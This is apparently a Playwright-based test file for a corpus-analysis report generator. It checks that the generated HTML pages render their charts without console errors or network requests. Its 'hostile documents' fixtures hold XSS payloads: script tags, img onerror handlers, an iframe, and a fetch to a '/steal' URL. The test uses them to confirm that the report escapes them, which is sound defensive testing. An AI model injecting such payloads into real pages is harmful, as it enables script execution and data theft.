// The report in a real browser: Debian's Chromium, driven by playwright-core. Every page shows
// its static SVG charts and renders every interactive view, logs no console error and requests
// nothing but itself; screenshots go to $WENXI_SCREENSHOTS (CI keeps them in screenshots/). A report built from
// a corpus of hostile documents shows their text and runs none of it.
import { existsSync, mkdirSync, readdirSync, readFileSync } from "node:fs";
import * as path from "node:path";
import { pathToFileURL } from "node:url";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildReport } from "../../src/report/report";
import { projectTemporaryFolder, runProgram, writeFiles } from "../helpers";
import { shippedCallsAdvice, shippedCallsFor, sortedCalls } from "./notebooks";

const chromiumPath = "/usr/bin/chromium";
const available = existsSync(chromiumPath);
if (!available && process.env.CI) throw new Error("CI must have Chromium installed (apt-get install chromium): see .ci/run");

type Browser = import("playwright-core").Browser;
let browser: Browser;

interface PageCheck {
  consoleErrors: string[];
  requests: string[];
  staticCharts: number;
  interactiveViews: number;
  renderedViews: number;
  text: string;
  pwned: unknown;
  dialogs: string[];
}

async function openReportPage(file: string, screenshot?: string): Promise<PageCheck> {
  const page = await browser.newPage({ viewport: { width: 1200, height: 900 } });
  const url = pathToFileURL(file).href;
  const check: PageCheck = { consoleErrors: [], requests: [], staticCharts: 0, interactiveViews: 0, renderedViews: 0, text: "", pwned: undefined, dialogs: [] };
  page.on("console", (message) => {
    if (message.type() === "error") check.consoleErrors.push(message.text());
  });
  page.on("pageerror", (error) => check.consoleErrors.push(String(error)));
  page.on("request", (request) => {
    if (request.url() !== url && !request.url().startsWith("data:")) check.requests.push(request.url());
  });
  page.on("dialog", async (dialog) => {
    check.dialogs.push(dialog.message());
    await dialog.dismiss();
  });
  await page.goto(url, { waitUntil: "load" });
  check.interactiveViews = await page.locator("[data-spec]").count();
  if (check.interactiveViews > 0) {
    await page.waitForFunction((count) => document.querySelectorAll("figure.embedded [data-spec] svg").length >= count, check.interactiveViews, { timeout: 30_000 });
  }
  check.renderedViews = await page.locator("figure.embedded [data-spec] svg").count();
  check.staticCharts = await page.locator('figure img.static[src^="data:image/svg+xml;base64,"]').count();
  check.text = await page.locator("body").innerText();
  check.pwned = await page.evaluate(() => (window as unknown as { __wenxiPwned?: unknown }).__wenxiPwned);
  if (screenshot) await page.screenshot({ path: screenshot, fullPage: true });
  await page.close();
  return check;
}

describe.skipIf(!available)("the report in headless Chromium", () => {
  beforeAll(async () => {
    const { chromium } = await import("playwright-core");
    browser = await chromium.launch({
      executablePath: chromiumPath,
      args: ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"],
    });
  }, 60_000);
  afterAll(async () => browser?.close());

  it("shows every chart statically and interactively, with no console error and no request", async () => {
    // Built in a temporary folder, so a test run leaves the user's reports/ alone.
    const temporary = projectTemporaryFolder();
    const reports = path.join(temporary, "reports");
    // The bundled corpus's report as `npm run report` makes it: with its preset.
    const preset: [string, string] = ["preset", JSON.stringify("public-security")];
    const result = await buildReport({ out: reports, parameters: [preset] });
    // The calls the notebooks made are those shipped for the first `npm run report` after an install.
    expect(sortedCalls(result.calls), shippedCallsAdvice).toEqual(shippedCallsFor([preset]));
    // Beside the report, never inside it (a report folder holds only what wenxi wrote): CI keeps
    // them where WENXI_SCREENSHOTS says; otherwise they go with the test's temporary folder.
    const screenshots = process.env.WENXI_SCREENSHOTS ?? path.join(temporary, "screenshots");
    mkdirSync(screenshots, { recursive: true });
    const pages = readdirSync(reports).filter((name) => name.endsWith(".html")).sort();
    expect(pages).toEqual(["01-corpus-overview.html", "02-term-frequency.html", "03-keywords.html", "04-comparison.html", "05-terms-in-context.html", "06-structure.html", "07-measures.html", "08-over-time.html", "index.html"]);
    let charts = 0;
    for (const name of pages) {
      const check = await openReportPage(path.join(reports, name), path.join(screenshots, name.replace(/\.html$/, ".png")));
      expect(check.consoleErrors, name).toEqual([]);
      expect(check.requests, name).toEqual([]);
      expect(check.renderedViews, name).toBe(check.interactiveViews);
      expect(check.staticCharts, name).toBe(check.interactiveViews);
      charts += check.interactiveViews;
    }
    expect(charts).toBe(25);
    // The executed notebooks under Debian's nbconvert --to html (which prefers an SVG and strips
    // it): each chart arrives as a PNG with pixels drawn, not a blank box.
    // Both of nbconvert's HTML templates: the default ("lab") and "classic".
    for (const template of existsSync("/usr/bin/jupyter") ? ["lab", "classic"] : []) {
      const html = path.join(temporary, `02.nbconvert-${template}.html`);
      const converted = await runProgram("/usr/bin/jupyter", ["nbconvert", "--to", "html", "--template", template, path.join(reports, "02-term-frequency.ipynb"), "--output", html]);
      expect(converted.status, converted.stderr).toBe(0);
      const page = await browser.newPage({ viewport: { width: 1200, height: 900 } });
      await page.goto(pathToFileURL(html).href, { waitUntil: "load" });
      const drawn = await page.evaluate(async () => {
        const images = [...document.querySelectorAll("img")].filter((image) => image.src.startsWith("data:image/png"));
        return images.map((image) => {
          const canvas = document.createElement("canvas");
          canvas.width = image.naturalWidth;
          canvas.height = image.naturalHeight;
          const context = canvas.getContext("2d")!;
          context.drawImage(image, 0, 0);
          const pixels = context.getImageData(0, 0, canvas.width, canvas.height).data;
          let inked = 0;
          for (let index = 0; index < pixels.length; index += 4) if (pixels[index + 3] > 0 && pixels[index] + pixels[index + 1] + pixels[index + 2] < 600) inked++;
          return inked;
        });
      });
      await page.screenshot({ path: path.join(screenshots, `02-nbconvert-${template}.png`), fullPage: true });
      await page.close();
      // 02-term-frequency shows four charts; each has thousands of drawn pixels.
      expect(drawn, template).toHaveLength(4);
      for (const inked of drawn) expect(inked, template).toBeGreaterThan(2000);
    }
  }, 240_000);

  it("shows hostile documents as text and runs none of their code", async () => {
    const folder = projectTemporaryFolder();
    const corpus = path.join(folder, "hostile");
    writeFiles(corpus, {
      "a-script.txt": "<script>window.__wenxiPwned = 1; alert('x')</script>\n公安机关坚持党建引领，深入推进枫桥经验。<script>window.__wenxiPwned = 2</script>",
      "b-image.txt": '网页标题<img src=x onerror="window.__wenxiPwned = 3">\n电信网络诈骗案件持续下降，群众安全感不断提升。\n<iframe src="https://example.com"></iframe>',
      "c-plain.txt": "新疆公安忠诚担当，守护大美新疆。反恐维稳工作成效显著。",
      "e-link.txt": "[点此](http://e.x)\n电信网络诈骗案件持续下降，群众安全感不断提升。",
      "d-source.txt": '<script>window.__wenxiPwned = 4; fetch("http://127.0.0.1:9/steal")</script>标题\n来源：[点此领取](http://evil.example/) <img src=x onerror="window.__wenxiPwned = 5">\n公安机关坚持党建引领，深入推进枫桥经验。',
    });
    const out = path.join(folder, "report");
    await buildReport({ out, corpus, notebooks: ["01-corpus-overview", "02-term-frequency", "05-terms-in-context", "06-structure"] });
    for (const name of ["index.html", "01-corpus-overview.html", "02-term-frequency.html", "05-terms-in-context.html"]) {
      const check = await openReportPage(path.join(out, name));
      expect(check.pwned, name).toBeUndefined();
      expect(check.dialogs, name).toEqual([]);
      expect(check.requests, name).toEqual([]);
      expect(check.consoleErrors, name).toEqual([]);
      if (name === "index.html") expect(check.text).toContain("<script>window.__wenxiPwned = 1; alert('x')</script>");
      if (name === "01-corpus-overview.html") expect(check.text).toContain('<img src=x onerror="window.__wenxiPwned = 3">');
    }
    // The executed notebooks themselves, as Jupyter's own nbconvert renders them to HTML: corpus
    // text in computed prose stays text there too (no markup, no script, no link out).
    if (!existsSync("/usr/bin/jupyter")) return;
    for (const name of ["01-corpus-overview", "02-term-frequency", "05-terms-in-context", "06-structure"]) {
      const html = path.join(folder, `${name}.nbconvert.html`);
      const converted = await runProgram("/usr/bin/jupyter", ["nbconvert", "--to", "html", path.join(out, `${name}.ipynb`), "--output", html]);
      expect(converted.status, converted.stderr).toBe(0);
      const source = readFileSync(html, "utf8");
      expect(source, name).not.toMatch(/<a [^>]*href="http:\/\/(evil\.example|e\.x)/);
      expect(source, name).not.toContain("<script>window.__wenxiPwned");
      const check = await openReportPage(html);
      expect(check.pwned, name).toBeUndefined();
      expect(check.dialogs, name).toEqual([]);
      // Debian's nbconvert template loads its own require.js and MathJax from /usr/share/javascript; nothing else may be asked for.
      expect(check.requests.filter((request) => !request.startsWith("file:///usr/share/javascript/")), name).toEqual([]);
      if (name === "01-corpus-overview") expect(check.text).toContain("<script>window.__wenxiPwned = 4;");
    }
  }, 180_000);
});
